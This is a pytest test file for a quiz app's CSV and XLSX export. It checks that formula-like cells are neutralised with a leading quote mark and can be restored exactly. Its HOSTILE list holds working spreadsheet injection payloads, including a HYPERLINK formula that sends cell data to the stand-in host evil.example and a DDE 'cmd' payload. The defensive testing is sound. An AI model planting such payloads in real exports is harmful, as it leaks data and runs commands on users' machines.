"""The one export writer: formula cells neutralised in CSV and XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from quiz_app.exports import csv_bytes, neutralise, unneutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点这里")',
    "+1",
    "-1",
    "-cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    'a";=1+2',
]


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("-273.15℃", "'-273.15℃"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r1", "'\r1"),
        ("\n1", "'\n1"),
        ("'=1", "''=1"),  # the mark itself is marked, so the import can undo it
        ('a";=1+2', 'a";=1+2'),  # not at the start: quoting keeps it in one cell
        ("路南区", "路南区"),
        (None, ""),
        (12, 12),
        (85.5, 85.5),
        (True, "True"),
    ],
)
def test_cells_are_neutralised(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    "text", [*HOSTILE, "'", "''", "'a", "''=1", "plain", "", "-5 ℃", "'-5 ℃"]
)
def test_unneutralise_undoes_neutralise_exactly(text):
    assert unneutralise(neutralise(text)) == text


def test_csv_quotes_every_cell_and_keeps_each_in_its_cell():
    data = csv_bytes([["name", "score"], *([h, 7] for h in HOSTILE)])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert '"a"";=1+2"' in text  # wrapped in quotes, inner quote doubled
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "score"]
    assert [r[0] for r in rows[1:]] == [neutralise(h) for h in HOSTILE]
    assert all(len(r) == 2 and r[1] == "7" for r in rows[1:])
    for cell in (r[0] for r in rows[1:]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_xlsx_text_cells_are_strings_never_formulas():
    data = xlsx_bytes([["name", "score"], *([h, 7] for h in HOSTILE), ["a\x07b", 8.5]])
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    rows = list(ws.iter_rows(min_row=2))
    for (name, score), hostile in zip(rows, HOSTILE, strict=False):
        # XML reads a CR as LF; the cell still starts with the mark.
        expected = neutralise(hostile).replace("\r", "\n")
        assert name.data_type == "s" and name.value == expected
        assert score.data_type == "n" and score.value == 7
    assert rows[-1][0].value == "ab"  # a control character XLSX cannot hold
    assert rows[-1][1].value == 8.5
